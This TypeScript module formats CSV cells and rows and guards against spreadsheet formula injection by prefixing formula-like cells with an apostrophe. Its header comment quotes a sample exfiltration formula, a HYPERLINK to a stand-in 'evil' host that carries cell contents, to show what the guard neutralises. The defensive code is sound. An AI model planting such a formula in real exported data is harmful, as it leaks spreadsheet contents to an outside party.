/**
 * CSV cells and rows (RFC 4180), safe to open in a spreadsheet. Pure: no I/O.
 *
 * Formula safety (OWASP "CSV injection"): a cell beginning with `=`, `+`, `-`, `@`, a tab or a
 * carriage return is one that Excel, LibreOffice or Google Sheets may run as a formula, so such a
 * cell gets a leading `'`, which spreadsheets read as "text follows". Every other cell is written
 * as it is. Lead fields come from webhooks, which are hostile: `=HYPERLINK("http://evil/?"&A1)` in
 * a lead's name must arrive in the spreadsheet as text.
 */

/** A cell value: text, a number, a boolean, or nothing (an empty cell). */
export type CsvValue = string | number | boolean | null | undefined;

/** What a spreadsheet may read as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** Cells holding any of these are quoted (RFC 4180 §2.6). */
const NEEDS_QUOTES = /[",\r\n]/;
/** A UTF-16 surrogate without its pair: not encodable as UTF-8. */
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;

/** The prefix a formula-looking cell gets. */
export const FORMULA_PREFIX = "'";

/**
 * One cell as CSV text: formula-safe, then quoted when it holds a quote, a comma or a line break
 * (quotes doubled). A lone surrogate (which JSON can carry, and UTF-8 cannot) becomes U+FFFD.
 *
 * @example csvCell('=1+1') // "'=1+1"
 * @example csvCell('Smith, "Ann"') // '"Smith, ""Ann"""'
 */
export function csvCell(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  let text = typeof value === 'string' ? value.replace(LONE_SURROGATE, '\uFFFD') : String(value);
  if (FORMULA_START.test(text)) text = FORMULA_PREFIX + text;
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One record: its cells, comma-separated, ended by CRLF (RFC 4180 §2.1). */
export function csvRow(values: readonly CsvValue[]): string {
  return `${values.map(csvCell).join(',')}\r\n`;
}
